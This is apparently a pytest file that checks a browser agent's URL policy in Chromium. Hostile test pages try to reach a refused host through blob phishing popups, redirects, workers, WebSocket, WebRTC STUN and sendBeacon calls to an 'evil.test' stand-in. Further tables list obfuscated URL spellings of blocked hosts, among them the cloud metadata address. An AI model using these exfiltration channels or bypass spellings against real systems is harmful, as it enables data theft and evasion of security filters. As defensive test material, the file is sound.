"""The URL policy attacked from a hostile page's side, in real Chromium.

A page on an allowed host (``allowed.test``) tries to show, fetch from or send to somewhere the
policy refuses: popups it fills itself (blob:, data:, a written about:blank), redirects of every
kind, workers of every kind, WebRTC's STUN over UDP, and URL spellings the policy might read
differently from the browser. Each attack aims at a path with a unique marker; the servers log every
request and a UDP socket every datagram, so "refused" means no byte arrived, not just that a
decision says so. Where the attack is silent in the policy's own records (a worker's fetch), a
control run without the policy proves the page really reaches the target.

Hosts: ``*.test`` names map to 127.0.0.1 in the tests' Chromium (tests/conftest.py); a second server
listens on 127.0.0.2, an address no policy here allows.
"""

from __future__ import annotations

import asyncio
import socket
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs, urlsplit

import pytest

from pixelpilot.actions import Task
from pixelpilot.agent import Agent, Gate, Limits, ScriptPolicy
from pixelpilot.envs import UrlPolicy
from pixelpilot.envs.browser import BrowserEnv
from pixelpilot.envs.urlguard import ERROR_PAGE
from pixelpilot.envs.urlpolicy import NETWORK_SCHEMES, canonical_host, parse_url
from pixelpilot.testing.http import LoopbackServer, QuietHandler, respond
from pixelpilot.trajectories import Recorder, load_episode

#: Helpers every attack page has: a blob: URL of some JavaScript or HTML.
PRELUDE = (
    "<script>const js = s => URL.createObjectURL(new Blob([s], {type: 'text/javascript'}));"
    "const html = s => URL.createObjectURL(new Blob([s], {type: 'text/html'}));</script>"
)


@dataclass
class Attack:
    id: str
    body: str  # the attack page's body: {evil} is the refused target, {a} {c} {udp} ports, {marker} the case's mark
    subresources: bool = False  # run under block_subresources=True
    silent: bool = False  # nothing reaches the browser's request layer, so no refusal can be recorded
    control: bool = False  # also prove that without a policy the attack reaches its target
    wait: float = 0.8  # seconds the page's timers get
    origin: str = "allowed.test"  # where the attack page is served (127.0.0.1 is a secure context)


EVIL = "http://evil.test:{a}/t/{marker}"
BLOB_PAGE = "html('<title>phish</title><h1>Your session expired: sign in again</h1>')"

ATTACKS = [
    # --- popups the page fills without a request the route could see ---
    Attack("blob-popup", f"<script>window.open({BLOB_PAGE})</script>"),
    Attack(
        "blob-popup-later", f"<script>const w = window.open(); setTimeout(() => w.location = {BLOB_PAGE}, 200)</script>"
    ),
    Attack("blob-popup-named", f"<script>window.open({BLOB_PAGE}, 'login', 'popup,width=400,height=300')</script>"),
    Attack(
        "blob-link-new-tab",
        f"<a id=l target=_blank>x</a><script>l.href = {BLOB_PAGE}; l.click()</script>",
    ),
    # Chromium itself refuses a page's top-level data: navigation: nothing for the guard to record
    Attack(
        "data-popup", "<script>window.open('data:text/html,<title>phish</title><h1>sign in</h1>')</script>", silent=True
    ),
    Attack(
        "written-popup-goes-out",
        "<script>const w = window.open(); w.document.write(\"<script>location.href = '{evil}'<\\/script>\");"
        " w.document.close()</script>",
    ),
    # (the guard makes a new tab's first request again itself, which cuts the opener's handle to it)
    Attack(
        "popup-steered-by-opener",
        "<script>const w = window.open('/page/ok'); setTimeout(() => w.location = '{evil}', 300)</script>",
        silent=True,
    ),
    Attack(
        "blank-popup-steered-by-opener",
        "<script>const w = window.open(); setTimeout(() => w.location = '{evil}', 300)</script>",
    ),
    Attack("noopener-popup", "<script>window.open('{evil}', '_blank', 'noopener')</script>"),
    Attack("popup-of-a-popup", "<script>window.open('/open?to={evil}')</script>"),
    Attack(
        "form-post-new-tab",
        "<form method=post target=_blank action='{evil}'><input name=q value=1></form>"
        "<script>document.forms[0].submit()</script>",
    ),
    # --- the page's own tab sent elsewhere ---
    Attack("iframe-moves-top", "<iframe srcdoc=\"<script>top.location = '{evil}'</script>\"></iframe>"),
    Attack("redirect-307", "<script>location = '/redirect?code=307&to={evil}'</script>"),
    Attack("refresh-header", "<script>location = '/refresh?to={evil}'</script>"),
    Attack("redirect-chain", "<script>location = '/redirect?to=' + encodeURIComponent('/redirect?to={evil}')</script>"),
    Attack(
        "form-post-same-tab", "<form method=post action='{evil}'></form><script>document.forms[0].submit()</script>"
    ),
    # --- requests no route sees, and requests from workers (block_subresources) ---
    Attack(
        "shared-worker-fetch",
        "<script>new SharedWorker(js(\"fetch('{evil}')\"))</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "shared-worker-same-origin-script",
        "<script>new SharedWorker('/worker.js?to={evil}')</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "shared-worker-from-a-fresh-iframe",
        "<script>const f = document.createElement('iframe'); document.body.append(f);"
        "new f.contentWindow.SharedWorker(js(\"fetch('{evil}')\"))</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "shared-worker-from-a-popup",
        "<script>const w = window.open(); new w.SharedWorker(js(\"fetch('{evil}')\"))</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "webrtc-stun",
        "<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:{udp}'}]});"
        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "webrtc-prefixed",
        "<script>const pc = new webkitRTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:{udp}'}]});"
        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "webrtc-from-a-fresh-iframe",
        "<script>const f = document.createElement('iframe'); document.body.append(f);"
        "const pc = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:{udp}'}]});"
        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "webrtc-in-a-data-iframe",
        "<iframe src=\"data:text/html,<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:{udp}'}]});"
        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))</script>\"></iframe>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "webrtc-in-a-blob-iframe",
        "<iframe id=f></iframe><script>f.src = html(\"<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:{udp}'}]});"
        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))<\\/script>\")</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "dedicated-worker-fetch",
        "<script>new Worker(js(\"fetch('{evil}')\"))</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "nested-worker-fetch",
        "<script>new Worker('/nested.js?to={evil}')</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "worker-import-scripts",
        "<script>new Worker(js(\"importScripts('{evil}')\"))</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "worker-websocket",
        "<script>new Worker(js(\"new WebSocket('ws://evil.test:{a}/t/{marker}')\"))</script>",
        subresources=True,
        silent=True,
        control=True,
    ),
    Attack(
        "webtransport-quic",
        "<script>new WebTransport('https://127.0.0.2:{udp}/').ready.catch(() => 0)</script>",
        subresources=True,
        silent=True,
        control=True,
        origin="127.0.0.1",
    ),
    Attack(
        "websocket-from-a-fresh-iframe",
        "<script>const f = document.createElement('iframe'); document.body.append(f);"
        "new f.contentWindow.WebSocket('ws://evil.test:{a}/t/{marker}')</script>",
        subresources=True,
        control=True,
    ),
    Attack(
        "websocket-from-a-popup",
        "<script>new (window.open().WebSocket)('ws://evil.test:{a}/t/{marker}')</script>",
        subresources=True,
        control=True,
    ),
    Attack("beacon", "<script>navigator.sendBeacon('{evil}', 'secret')</script>", subresources=True, control=True),
    Attack("event-source", "<script>new EventSource('{evil}')</script>", subresources=True, control=True),
    Attack("css-background", "<div style=\"width:9px;height:9px;background:url('{evil}')\"></div>", subresources=True),
    Attack("link-ping", "<a id=l href='/page/pinged' ping='{evil}'>x</a><script>l.click()</script>", subresources=True),
    Attack(
        "iframe-srcdoc-fetch",
        "<iframe srcdoc=\"<script>fetch('{evil}')</script>\"></iframe>",
        subresources=True,
    ),
]


class Log:
    """Every request any server got: (Host header, method, path)."""

    def __init__(self) -> None:
        self.hits: list[tuple[str, str, str]] = []

    def reached(self, marker: str) -> list[tuple[str, str, str]]:
        return [h for h in self.hits if urlsplit(h[2]).path == f"/t/{marker}"]


def _handler(log: Log) -> type[BaseHTTPRequestHandler]:
    class Handler(QuietHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.do_GET()

        def do_GET(self) -> None:
            log.hits.append((self.headers.get("Host", ""), self.command, self.path))
            parts = urlsplit(self.path)
            query = parse_qs(parts.query)
            to = query.get("to", [""])[0]
            kind = parts.path.strip("/").split("/")[0]
            if kind == "attack":
                attack = self.server.attacks[parts.path.split("/")[2]]  # type: ignore[attr-defined]
                return respond(self, f"<!doctype html><title>attack</title><body>{PRELUDE}{attack}")
            if kind == "redirect":
                return respond(self, "", int(query.get("code", ["302"])[0]), headers={"Location": to})
            if kind == "refresh":
                return respond(self, "moving", headers={"Refresh": f"0;url={to}"})
            if kind == "open":
                return respond(self, f"<title>opener</title><script>window.open({to!r})</script>")
            if kind == "worker.js":
                return respond(self, f"fetch({to!r})", content_type="text/javascript")
            if kind == "nested.js":
                inner = f"fetch({to!r})"
                body = f"new Worker(URL.createObjectURL(new Blob([{inner!r}], {{type: 'text/javascript'}})))"
                return respond(self, body, content_type="text/javascript")
            respond(self, f"<title>page {parts.path}</title><h1>{parts.path}</h1>")

    return Handler


@pytest.fixture(scope="module")
def servers():
    """Two HTTP servers (127.0.0.1 and 127.0.0.2) sharing one log; yields (log, port A, port C)."""
    log = Log()
    with LoopbackServer(_handler(log)) as a, LoopbackServer(_handler(log), host="127.0.0.2") as c:
        a.server.attacks = c.server.attacks = {}  # type: ignore[attr-defined]
        yield log, a, c


@pytest.fixture
def udp():
    """A UDP socket on 127.0.0.2 standing in for a STUN server; yields (port, datagram count)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.2", 0))
    sock.setblocking(False)

    def received() -> int:
        n = 0
        while True:
            try:
                sock.recv(4096)
            except BlockingIOError:
                return n
            n += 1

    try:
        yield sock.getsockname()[1], received
    finally:
        sock.close()


def test_the_table_is_wide():
    assert len(ATTACKS) >= 30
    assert len({a.id for a in ATTACKS}) == len(ATTACKS)


async def _attack(browser, servers, udp, attack: Attack, policy: UrlPolicy | None):
    """Open the attack page; return (what the agent observes, the open tabs' URLs, decisions, the marker's hits, datagrams)."""
    log, a, c = servers
    marker = f"{attack.id}-{'guarded' if policy else 'open'}"
    udp_port, received = udp
    body = attack.body
    for key, value in (("{evil}", EVIL), ("{a}", str(a.port)), ("{c}", str(c.port)), ("{udp}", str(udp_port))):
        body = body.replace(key, value)
    a.server.attacks[marker] = body.replace("{marker}", marker)
    env = BrowserEnv(browser=browser, url_policy=policy, settle_timeout=2.0)
    try:
        await env.reset(Task(instruction=attack.id, url=f"http://{attack.origin}:{a.port}/attack/{marker}"))
        await asyncio.sleep(attack.wait)
        await env.settle()
        obs = await env.observe()
        tabs = [t["url"] for t in await env.tabs()]
        decisions = env.url_decisions()
    finally:
        await env.aclose()
    await asyncio.sleep(0.1)  # a request still in flight would land now
    return obs, tabs, decisions, log.reached(marker), received()


def _policy(servers, attack: Attack) -> UrlPolicy:
    _, a, _ = servers
    return UrlPolicy.of(allow=["allowed.test", f"127.0.0.1:{a.port}"], block_subresources=attack.subresources)


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.id for a in ATTACKS])
async def test_attack_is_refused(attack: Attack, servers, udp, browser):
    obs, tabs, decisions, hits, datagrams = await _attack(browser, servers, udp, attack, _policy(servers, attack))
    assert hits == [], f"the refused target got requests: {hits}"
    assert datagrams == 0, "a datagram reached the refused address"
    for url in [obs.url, *tabs]:  # a refused navigation leaves Chromium's error page in its tab
        assert url in ("about:blank", ERROR_PAGE) or url.startswith(f"http://{attack.origin}:{servers[1].port}/"), tabs
    if not attack.silent:
        refused = [d for d in decisions if not d["allowed"]]
        assert refused, f"no refusal was recorded: {decisions}"


CONTROLS = [a for a in ATTACKS if a.control]


@pytest.mark.parametrize("attack", CONTROLS, ids=[a.id for a in CONTROLS])
async def test_attack_works_without_the_policy(attack: Attack, servers, udp, browser):
    """The same page with no policy does reach its target: the refusal above is the policy's doing."""
    _, _, _, hits, datagrams = await _attack(browser, servers, udp, attack, None)
    assert hits or datagrams, "the attack page never reached its target even without a policy"


# --- URL spellings: the check, the gate and Chromium must read the same host ------------------------

#: (id, URL with {a} {c} ports, whether the policy below allows it). The policy blocks 127.0.0.2 and
#: admin.allowed.test and allows the rest, so a spelling that hides one of those from the check
#: would be let through by the gate and reach the server in the browser.
FORMS = [
    ("ipv4-mapped-ipv6", "http://[::ffff:127.0.0.2]:{c}/t/{marker}", False),
    ("ipv4-mapped-ipv6-hex", "http://[::ffff:7f00:2]:{c}/t/{marker}", False),
    ("ipv4-mapped-ipv6-long", "http://[0:0:0:0:0:ffff:127.0.0.2]:{c}/t/{marker}", False),
    ("ipv4-decimal", "http://2130706434:{c}/t/{marker}", False),
    ("ipv4-short", "http://127.2:{c}/t/{marker}", False),
    ("ipv4-octal", "http://0177.0.0.02:{c}/t/{marker}", False),
    ("percent-encoded-host", "http://adm%69n.allowed.test:{a}/t/{marker}", False),
    ("percent-encoded-upper", "http://%41DMIN.allowed.test:{a}/t/{marker}", False),
    ("fullwidth-host", "http://\uff41\uff44\uff4d\uff49\uff4e.allowed.test:{a}/t/{marker}", False),
    ("soft-hyphen", "http://ad\u00admin.allowed.test:{a}/t/{marker}", False),
    ("trailing-dot", "http://admin.allowed.test.:{a}/t/{marker}", False),
    ("tab-in-host", "http://adm\tin.allowed.test:{a}/t/{marker}", False),
    ("allowed-sibling", "http://www.allowed.test:{a}/t/{marker}", True),
    ("allowed-mapped-loopback", "http://[::ffff:127.0.0.1]:{a}/t/{marker}", True),
]


@pytest.mark.parametrize("form", FORMS, ids=[f[0] for f in FORMS])
async def test_url_spelling_is_read_as_chromium_reads_it(form, servers, browser, tmp_path):
    """The agent navigates to the spelling: the gate decides as the browser would, and the browser agrees."""
    name, template, allowed = form
    log, a, c = servers
    marker = f"form-{name}"
    url = template.replace("{a}", str(a.port)).replace("{c}", str(c.port)).replace("{marker}", marker)
    policy = UrlPolicy.of(block=["127.0.0.2", "admin.allowed.test"])
    env = BrowserEnv(browser=browser, url_policy=policy, settle_timeout=2.0)
    agent = Agent(
        env,
        ScriptPolicy([{"goto": url}]),
        recorder=Recorder(tmp_path),
        gate=Gate(policy, rules=None),
        limits=Limits(max_steps=3),
    )
    try:
        episode = await agent.run(Task(instruction=name, url=f"http://allowed.test:{a.port}/start"))
        # what Chromium itself makes of the spelling
        host = await env.evaluate("u => new URL(u).hostname", url)
    finally:
        await env.aclose()
    await asyncio.sleep(0.1)
    gate = load_episode(episode.path).steps[0].extra["gate"]
    assert gate["allowed"] is allowed, gate
    assert policy.check(f"http://{host}/").allowed is allowed, f"the check disagrees with Chromium's host {host!r}"
    assert bool(log.reached(marker)) is allowed, log.reached(marker)


# --- the pure check, from the attacker's side ---------------------------------------------------------

METADATA = UrlPolicy.of(block=["169.254.169.254"])
ADMIN = UrlPolicy.of(block=["admin.example.com"])
ONLY = UrlPolicy.of(allow=["example.com"])

#: (policy, URL, allowed): spellings of a refused host that a hand-made parser reads as another host.
SPELLINGS = [
    (METADATA, "http://169.254.169.254/latest/meta-data/", False),
    (METADATA, "http://[::ffff:169.254.169.254]/", False),
    (METADATA, "http://[::ffff:a9fe:a9fe]/", False),
    (METADATA, "http://[64:ff9b::169.254.169.254]/", False),  # NAT64
    (METADATA, "http://[2002:a9fe:a9fe::1]/", False),  # 6to4
    (METADATA, "http://[::169.254.169.254]/", False),  # IPv4-compatible
    (METADATA, "http://2852039166/", False),
    (METADATA, "http://0xa9.0xfe.0xa9.0xfe/", False),
    (METADATA, "http://0251.0376.0251.0376/", False),
    (METADATA, "http://169.254.43518/", False),
    (METADATA, "http://169.254.169.254.:80/", False),
    (METADATA, "http://[::ffff:169.254.169.253]/", True),  # the neighbour is not blocked
    (ADMIN, "http://adm%69n.example.com/", False),
    (ADMIN, "http://ADM%49N.example.com/", False),
    (ADMIN, "http://\uff41\uff44\uff4d\uff49\uff4e.example.com/", False),
    (ADMIN, "http://ad\u00admin.example.com/", False),
    (ADMIN, "http://admin%2eexample%2ecom/", False),
    (ADMIN, "http://admin.example.com%2e/", False),
    (ADMIN, "https://user@admin.example.com/", False),
    (ADMIN, "http://admin.example.com\\@safe.example.org/", False),
    (ADMIN, "http://safe.example.org\\@admin.example.com/", True),  # the host is safe.example.org
    (ADMIN, "wss://admin.example.com/socket", False),
    (ADMIN, " \t\nhttp://ad\tmin.example.com/", False),
    (ONLY, "http://example.com%2f@evil.com/", False),
    (ONLY, "http://example.com:80@evil.com/", False),
    (ONLY, "http://evil.com%23@example.com/", True),  # %23 stays in the user name: the host is example.com
    (ONLY, "http://ex%61mple.com/", True),
    (ONLY, "http://[::ffff:93.184.216.34]/", False),  # an IP is not the name
    (ONLY, "http://example.com\u3002evil.com/", False),  # an ideographic full stop is a dot
]


@pytest.mark.parametrize(
    "policy, url, allowed", SPELLINGS, ids=[f"{i}-{u.strip()[:40]}" for i, (_, u, _a) in enumerate(SPELLINGS)]
)
def test_the_check_reads_the_host_the_browser_would(policy: UrlPolicy, url: str, allowed: bool):
    assert policy.check(url).allowed is allowed, policy.check(url)


async def test_the_check_and_chromium_parse_every_spelling_alike(browser_env):
    """Chromium's own URL parser, asked about every spelling above and the forms table, finds the host the check finds."""
    env = browser_env()
    await env.reset()
    urls = [u for _, u, _a in SPELLINGS] + [t.replace("{a}", "80").replace("{c}", "80") for _, t, _a in FORMS]
    theirs = await env.evaluate(
        "urls => urls.map(u => { try { const p = new URL(u); return [p.protocol, p.hostname, p.port] } catch { return null } })",
        urls,
    )
    for url, chromium in zip(urls, theirs, strict=True):
        try:
            ours = parse_url(url)
        except ValueError:
            ours = None
        if chromium is None:
            assert ours is None, url
            continue
        scheme, host, port = chromium
        assert ours is not None, url
        expected = (scheme.rstrip(":"), canonical_host(host), int(port or NETWORK_SCHEMES[scheme.rstrip(":")]))
        assert ours == expected, url
